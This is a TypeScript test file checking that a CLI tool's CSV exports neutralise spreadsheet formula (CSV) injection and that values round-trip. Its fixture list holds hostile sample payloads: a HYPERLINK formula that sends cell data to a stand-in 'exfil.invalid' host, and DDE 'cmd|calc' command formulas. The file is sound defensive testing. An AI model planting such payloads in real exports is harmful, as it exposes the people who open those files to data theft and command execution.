// CSV the tool writes runs no formula in a spreadsheet (OWASP's CSV injection): a cell beginning with =, +,
// -, @, a tab or a carriage return is written with a leading apostrophe, plain numbers stay numbers, and
// the tool's own reader (adjudicate --from) gets every original text back. Read with csv-parse.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { readAdjudicationLog } from '../../../src/core/adjudication/adjudicationLog';
import { toCsv, unguardCell } from '../../../src/core/util/csv';
import { runCli } from '../../helpers/cli';
import { rawCsvRecords as csvRecords } from '../../helpers/csv';
import { scratchDir } from '../../helpers/scratch';
import { eventOn, writeSyntheticRun } from '../../helpers/syntheticRun';

const FORMULAS = [
  '=HYPERLINK("http://exfil.invalid/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|calc',
  '-2+3+cmd|calc',
  '@SUM(1+1)*cmd|calc',
  '\t=1+2',
  '\r=1+2',
  "'=already quoted",
  "''-two apostrophes",
  '=',
];
const NUMBERS = ['-0.25', '+1e-3', '-7', '.5'];
const HARMLESS = ["it's fine", "'plain apostrophe", 'a=b', ''];
const ALL = [...FORMULAS, ...NUMBERS, ...HARMLESS];

/** A spreadsheet runs a cell as a formula when it begins so (after the reader took the quotes off). */
const runsAsFormula = (cell: string): boolean => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?$/i.test(cell);

test('export and the adjudicated export: no cell runs as a formula, and each unguarded cell is the original text', async () => {
  const run = writeSyntheticRun(join(scratchDir('csv-injection'), 'run'), ALL.length);
  const lines = [...run.lines.values()].map((line, i) => ({ ...line, response: ALL[i] ?? '', judgeReply: ALL[ALL.length - 1 - i] ?? '' }));
  writeFileSync(join(run.dir, 'results.jsonl'), lines.map((l) => `${JSON.stringify(l)}\n`).join(''));
  const withLines = { ...run, lines: new Map(lines.map((l) => [l.itemId, l])) };
  writeFileSync(
    run.adjudications,
    run.ids
      .map(
        (itemId, i) =>
          `${JSON.stringify(eventOn(withLines, { itemId, annotator: ALL[(i + 3) % ALL.length] || 'x', minute: i, verdict: true, note: ALL[i] ?? '' }))}\n`,
      )
      .join(''),
  );

  const plain = await runCli(['export', run.dir, '--format', 'csv']);
  assert.equal(plain.code, 0, plain.stderr);
  const adjudicated = await runCli(['export', run.dir, '--format', 'csv', '--adjudicated']);
  assert.equal(adjudicated.code, 0, adjudicated.stderr);
  for (const [name, text] of [
    ['export', plain.stdout],
    ['export --adjudicated', adjudicated.stdout],
  ] as const) {
    const records = csvRecords(text);
    assert.equal(records.length, ALL.length);
    for (const record of records) {
      for (const [column, cell] of Object.entries(record))
        assert.ok(!runsAsFormula(cell), `${name} ${column}: ${JSON.stringify(cell)} runs as a formula`);
    }
    records.forEach((record, i) => {
      assert.equal(unguardCell(record['response'] ?? ''), ALL[i], `${name}: response of item ${i}`);
      assert.equal(unguardCell(record['judgeReply'] ?? ''), ALL[ALL.length - 1 - i], `${name}: judge reply of item ${i}`);
    });
    for (const number of NUMBERS)
      assert.ok(
        records.some((r) => r['response'] === number),
        `${number} stays a number`,
      );
  }
  const notes = csvRecords(adjudicated.stdout).map((r) => unguardCell(r['notes'] ?? ''));
  ALL.forEach((text, i) => assert.ok(notes[i]?.endsWith(text), `note of item ${i}: ${JSON.stringify(notes[i])}`));
});

test('a decisions CSV written by the tool reads back through adjudicate --from as the very notes and annotators', async () => {
  const run = writeSyntheticRun(join(scratchDir('csv-roundtrip'), 'run'), ALL.length);
  const rows = run.ids.map((itemId, i) => [itemId, 'true', '', ALL[i] ?? '', `${ALL[(i + 1) % ALL.length] ?? ''}annotator`]);
  const file = join(run.dir, 'decisions.csv');
  writeFileSync(file, toCsv(['itemId', 'verdict', 'flag', 'note', 'annotator'], rows));
  assert.ok(csvRecords(readFileSync(file, 'utf8')).every((r) => !runsAsFormula(r['note'] ?? '') && !runsAsFormula(r['annotator'] ?? '')));
  const imported = await runCli(['adjudicate', run.dir, '--from', file]);
  assert.equal(imported.code, 0, imported.stderr);
  const events = readAdjudicationLog(run.adjudications).events.map((l) => l.event);
  assert.deepEqual(
    events.map((e) => e.note),
    ALL,
  );
  // (An annotator's name is trimmed on import, as any name is.)
  assert.deepEqual(
    events.map((e) => e.annotator),
    rows.map((r) => r[4]?.trim()),
  );
});
